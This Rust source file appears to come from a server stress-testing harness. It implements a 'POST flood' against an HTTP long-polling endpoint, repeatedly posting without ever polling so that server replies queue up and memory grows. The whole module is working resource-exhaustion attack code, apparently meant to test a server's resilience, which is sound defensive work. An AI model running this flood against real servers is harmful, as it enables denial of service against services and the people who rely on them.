//! An attacker over HTTP long-polling that POSTs and never GETs: everything the server answers
//! stays queued in its session.

use std::time::{Duration, Instant};

use super::wire::POLLING_TARGET;
use super::{Attack, Http};

/// What a POST flood did.
#[derive(Debug, Default)]
pub struct PostFlood {
    pub sessions: u32,
    pub posts: u32,
    /// POSTs refused (the session closed by the server, or the body refused).
    pub refused: u32,
}

/// The request timeout: 5 s, or what is left of the attack plus one second.
fn timeout(a: &Attack) -> Duration {
    let left = a.deadline.saturating_duration_since(Instant::now());
    (left + Duration::from_secs(1)).min(Duration::from_secs(5))
}

/// Opens a polling session (and posts `first` once, e.g. `40`), then POSTs `body(n)` over and
/// over, never GETting, while the attack may go on. When the server ends the session (a POST
/// refused), opens another.
pub fn post_flood(
    a: &Attack,
    first: Option<&[u8]>,
    mut body: impl FnMut(u32) -> Vec<u8>,
) -> PostFlood {
    let mut f = PostFlood::default();
    let mut http: Option<Http> = None;
    'sessions: while a.go() {
        let h = match http.as_mut() {
            Some(h) => h,
            None => match Http::connect(a.addr, timeout(a)) {
                Ok(h) => http.insert(h),
                Err(e) => {
                    a.note(format!("connect failed at {:.2} s: {e}", a.t()));
                    break;
                }
            },
        };
        let sid = match h.polling_handshake(timeout(a)) {
            Ok(sid) => sid,
            Err(e) => {
                a.note(format!("handshake failed at {:.2} s: {e}", a.t()));
                http = None;
                continue;
            }
        };
        f.sessions += 1;
        let target = format!("{POLLING_TARGET}&sid={sid}");
        if let Some(first) = first {
            if h.request("POST", &target, first, timeout(a)).is_err() {
                http = None;
                continue;
            }
        }
        while a.go() {
            let b = body(f.posts);
            match h.request("POST", &target, &b, timeout(a)) {
                Ok((200, _)) => {
                    f.posts += 1;
                    a.sent(b.len());
                }
                Ok((status, answer)) => {
                    f.refused += 1;
                    if f.refused <= 1 {
                        a.note(format!(
                            "POST refused at {:.2} s: {status} {}",
                            a.t(),
                            String::from_utf8_lossy(&answer[..answer.len().min(80)])
                        ));
                    }
                    continue 'sessions;
                }
                Err(e) => {
                    f.refused += 1;
                    if f.refused <= 1 {
                        a.note(format!("POST failed at {:.2} s: {e}", a.t()));
                    }
                    http = None;
                    continue 'sessions;
                }
            }
        }
    }
    a.note(format!(
        "{} session(s), {} POSTs accepted, {} refused",
        f.sessions, f.posts, f.refused
    ));
    f
}
